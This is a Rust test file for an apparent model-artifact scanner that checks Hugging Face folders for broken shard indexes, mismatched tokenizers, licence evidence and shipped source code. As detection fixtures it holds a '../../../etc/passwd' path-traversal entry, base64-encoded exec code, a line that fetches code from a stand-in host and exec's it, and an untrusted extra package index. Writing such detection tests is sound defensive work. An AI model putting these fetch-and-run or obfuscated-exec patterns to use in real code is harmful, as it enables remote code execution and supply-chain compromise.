//! Folders of Hugging Face's libraries: what does not fit together, and source that lies beside models.

use std::collections::BTreeSet;

use modelium_core::pipeline::Pipeline;
use modelium_core::scan::{Depth, Exam, Part, Verdict};
use modelium_core::{Artifact, Blob, Context, Limits, ModelDescriptor, Registry};

use crate::mutate::{XorShift, mutate};
use crate::support::repository;

fn hostile(case: &str) -> ModelDescriptor {
    let path = repository("tests/hostile/formats/hugging_face").join(case);
    Pipeline::new(Registry::builtin()).open(path, &Context::new()).unwrap().descriptor
}

/// A folder in memory.
fn folder(files: &[(&str, &str)]) -> ModelDescriptor {
    let files = files.iter().map(|(name, text)| ((*name).to_owned(), text.as_bytes().to_vec().into()));
    let artifact = Artifact::from_entries("folder", files);
    Registry::builtin().analyze(&artifact, &Context::new()).unwrap()
}

fn codes(model: &ModelDescriptor) -> BTreeSet<String> {
    model.findings.iter().map(|finding| finding.code.to_string()).collect()
}

fn examine(name: &str, text: &str) -> (Verdict, BTreeSet<String>) {
    let (registry, cx) = (Registry::builtin(), Context::new());
    let mut exam = Exam::new(registry.inspectors(), Depth::Content, &cx);
    exam.examine(&Part::file(name, Blob::from_bytes(name, text.as_bytes().to_vec()))).unwrap();
    let examined = exam.finish();
    let codes = examined.findings.iter().map(|finding| finding.code.to_string()).collect();
    (examined.verdict(), codes)
}

#[test]
fn an_index_and_its_shards_are_held_against_each_other() {
    for (case, code, message) in [
        ("shard_missing", "hugging_face.shard_missing", "the index names 'b.safetensors', which is not there"),
        (
            "shard_escapes",
            "hugging_face.shard_missing",
            "the index names '../../../etc/passwd', which is refused: it leaves the model's folder by '..'",
        ),
        (
            "tensor_in_the_other_shard",
            "hugging_face.tensor_misplaced",
            "the index says that 'x' is in 'b.safetensors'; it is in 'a.safetensors'",
        ),
        (
            "tensor_in_two_shards",
            "hugging_face.tensor_twice",
            "'y' is in 'a.safetensors' and 'b.safetensors'; loaders take one of them",
        ),
        (
            "index_of_a_list",
            "hugging_face.broken_index",
            "'weight_map' is not an object that names a file for each tensor",
        ),
    ] {
        let model = hostile(case);
        let found = model.findings.iter().find(|finding| finding.code == code);
        assert_eq!(found.map(|finding| finding.message.as_str()), Some(message), "{case}: {:?}", model.findings);
    }
    assert!(codes(&hostile("shard_cut_off")).contains("hugging_face.broken_weights"));
}

#[test]
fn a_tokenizer_that_does_not_fit_its_model_is_told() {
    assert!(codes(&hostile("tokenizer_beyond_the_embedding")).contains("tokenizer.beyond_embedding"));
    let disagree = codes(&hostile("tokenizers_that_disagree"));
    for code in
        ["tokenizer.vocabularies_disagree", "tokenizer.added_tokens_disagree", "tokenizer.special_token_disagrees"]
    {
        assert!(disagree.contains(code), "{code} is not among {disagree:?}");
    }
}

#[test]
fn a_card_and_a_text_of_another_licence_disagree() {
    let model = hostile("card_of_another_licence");
    let license = model.license.as_ref().unwrap();
    assert_eq!(license.spdx, ["Apache-2.0", "LicenseRef-Llama-3.1-Community"]);
    assert!(codes(&model).contains("license.disagree"));
}

#[test]
fn a_base_model_beside_it_lends_its_licence() {
    let model = folder(&[
        ("config.json", r#"{"model_type": "bert"}"#),
        ("README.md", "---\nbase_model: ./base\n---\n"),
        ("base/README.md", "---\nlicense: gpl-3.0\n---\n"),
    ]);
    let evidence = &model.license.unwrap().evidence[0];
    assert_eq!((evidence.spdx.as_str(), evidence.source.as_str()), ("GPL-3.0-only", "base_model"));
}

#[test]
fn metadata_of_any_format_names_a_licence() {
    let header = r#"{"__metadata__":{"license":"llama3","base_model":"owner/large"},"x":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#;
    let mut file = (header.len() as u64).to_le_bytes().to_vec();
    file.extend(header.as_bytes());
    file.push(0);
    let model = Registry::builtin().analyze(&Artifact::from_bytes("x.safetensors", file), &Context::new()).unwrap();
    let license = model.license.unwrap();
    assert_eq!(
        (license.spdx, license.base_models),
        (vec!["LicenseRef-Llama-3-Community".to_owned()], vec!["owner/large".to_owned()])
    );
    assert_eq!(
        (license.evidence[0].source.as_str(), license.evidence[0].said.as_deref()),
        ("metadata", Some("llama3"))
    );
}

#[test]
fn quantised_tensors_count_as_the_parameters_that_they_stand_for() {
    let tensors = r#"{"m.qweight":{"dtype":"I32","shape":[8,16],"data_offsets":[0,512]},"m.qzeros":{"dtype":"I32","shape":[1,2],"data_offsets":[512,520]},"m.scales":{"dtype":"F16","shape":[1,16],"data_offsets":[520,552]},"m.bias":{"dtype":"F16","shape":[16],"data_offsets":[552,584]}}"#;
    let mut file = (tensors.len() as u64).to_le_bytes().to_vec();
    file.extend(tensors.as_bytes());
    file.resize(file.len() + 584, 0);
    let config = r#"{"model_type": "x", "quantization_config": {"quant_method": "gptq", "bits": 4, "group_size": 64}}"#;
    let files = [("config.json".to_owned(), config.into()), ("model.safetensors".to_owned(), file.into())];
    let model = Registry::builtin().analyze(&Artifact::from_entries("folder", files), &Context::new()).unwrap();
    assert_eq!(model.resources.figures["parameters"].value, 64 * 16 + 16);
    assert_eq!(model.metadata["quantization_bits"], "4");
    assert_eq!(model.dependencies, ["gptqmodel", "transformers"]);
}

#[test]
fn source_by_itself_is_a_note_unless_it_hides_what_it_does() {
    const NOTE: &str = "code.shipped";
    let encoded = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RydWUnKQ==";
    for (name, source, verdict, code) in [
        ("honest.py", "import torch\nfrom transformers import AutoModel\n".to_owned(), Verdict::Clean, NOTE),
        ("called.py", "import subprocess\ndef f():\n    subprocess.run(['make'])\n".to_owned(), Verdict::Clean, "code.acts"),
        ("example.py", "import requests\nx = requests.get('https://example.com')\n".to_owned(), Verdict::Clean, "code.acts"),
        ("setup.py", "exec(open('version.py').read())\n".to_owned(), Verdict::Clean, "code.acts"),
        ("imported.py", "import os\nos.system('true')\n".to_owned(), Verdict::Suspicious, "code.acts_on_import"),
        ("hidden.py", format!("import base64\nexec(base64.b64decode('{encoded}'))\n"), Verdict::Malicious, "code.hidden"),
        ("fetched.py", "from urllib.request import urlopen as u\nexec(u('http://x').read())\n".to_owned(), Verdict::Malicious, "code.hidden"),
        ("brackets.py", format!("x = {}", "(".repeat(20_000)), Verdict::Clean, NOTE),
        ("a.ipynb", "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\": [\"!pip install x\\n\", \"exec('1')\"]}]}".to_owned(), Verdict::Clean, "code.acts"),
        ("requirements.txt", "torch\ntransformers @ git+https://github.com/huggingface/transformers\n".to_owned(), Verdict::Clean, "repository.installs_source"),
        ("requirements.txt", "--extra-index-url http://example.com/simple\nmine\n".to_owned(), Verdict::Suspicious, "repository.installs_from_elsewhere"),
    ] {
        let (found, codes) = examine(name, &source);
        assert_eq!(found, verdict, "{name}: {codes:?}");
        assert!(codes.contains(code), "{name}: {codes:?}");
    }
}

#[test]
fn json_that_is_no_configuration_is_text() {
    for (name, text) in [
        ("data.json", "{\"a\": 1}\n{\"a\": 2}\n"),
        ("table.json", "[[1, 2], [3, 4]]"),
        ("vocab.json", "{\"a\": 0, \"b\": 1}"),
        ("notes.txt", "{\"not json"),
        ("README.md", "# Model\n```python\nimport os\nos.system('x')\n```\n"),
        ("LICENSE", "MIT License\n"),
        (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"),
    ] {
        assert_eq!(examine(name, text), (Verdict::Clean, BTreeSet::new()), "{name}");
    }
}

#[test]
fn a_large_configuration_is_read_as_a_stream() {
    let vocabulary: Vec<String> = (0..600_000).map(|id| format!("\"token number {id}\": {id}")).collect();
    let hook = r#""auto_map": {"AutoTokenizer": ["t.T", null]}"#;
    let text = format!("{{\"a\": {{\"b\": {{{}}}}}, {hook}}}", vocabulary.join(", "));
    assert!(text.len() > 16 << 20);
    assert_eq!(examine("x.json", &text).0, Verdict::Malicious);
}

#[test]
fn mutations_of_the_files_of_tokenizers_and_licences_are_read_or_told() {
    const ROUNDS: usize = 60;
    let folder = repository("tests/corpus/formats/hugging_face");
    let (mut random, cx) = (XorShift(0x51_7c_c1_b7_27_22_0a_95), Context::new());
    for name in [
        "llama/tokenizer.json",
        "llama/tokenizer_config.json",
        "llama/README.md",
        "llama_sentencepiece/tokenizer.model",
        "tiktoken/qwen.tiktoken",
        "bert/vocab.txt",
    ] {
        let bytes = std::fs::read(folder.join(name)).unwrap();
        let file = name.rsplit('/').next().unwrap();
        for _ in 0..ROUNDS {
            let changed = mutate(std::slice::from_ref(&bytes), &mut random);
            let artifact = Artifact::from_entries("folder", [(file.to_owned(), changed.into())]);
            modelium_core::tokenizer::read(&artifact, "", &cx).unwrap();
            modelium_core::license::read(&artifact, "", &cx).unwrap();
        }
    }
}

#[cfg(unix)]
#[test]
fn a_snapshot_of_a_cache_opens_where_links_are_trusted() {
    let cache = tempfile::tempdir().unwrap();
    let (blobs, snapshot) = (cache.path().join("blobs"), cache.path().join("snapshots/0123"));
    std::fs::create_dir_all(&blobs).unwrap();
    std::fs::create_dir_all(&snapshot).unwrap();
    std::fs::write(blobs.join("ab"), r#"{"model_type": "bert", "architectures": ["BertModel"]}"#).unwrap();
    std::os::unix::fs::symlink("../../blobs/ab", snapshot.join("config.json")).unwrap();
    let error = Artifact::open(&snapshot, &Context::new()).unwrap_err();
    assert!(error.message().starts_with("the folder holds 1 links and no files"), "{error}");
    let trusting = Context::new().with_limits(Limits { follow_links: true, ..Limits::default() });
    let artifact = Artifact::open(&snapshot, &trusting).unwrap();
    let model = Registry::builtin().analyze(&artifact, &trusting).unwrap();
    assert_eq!(model.architecture.as_deref(), Some("BertModel"));
}
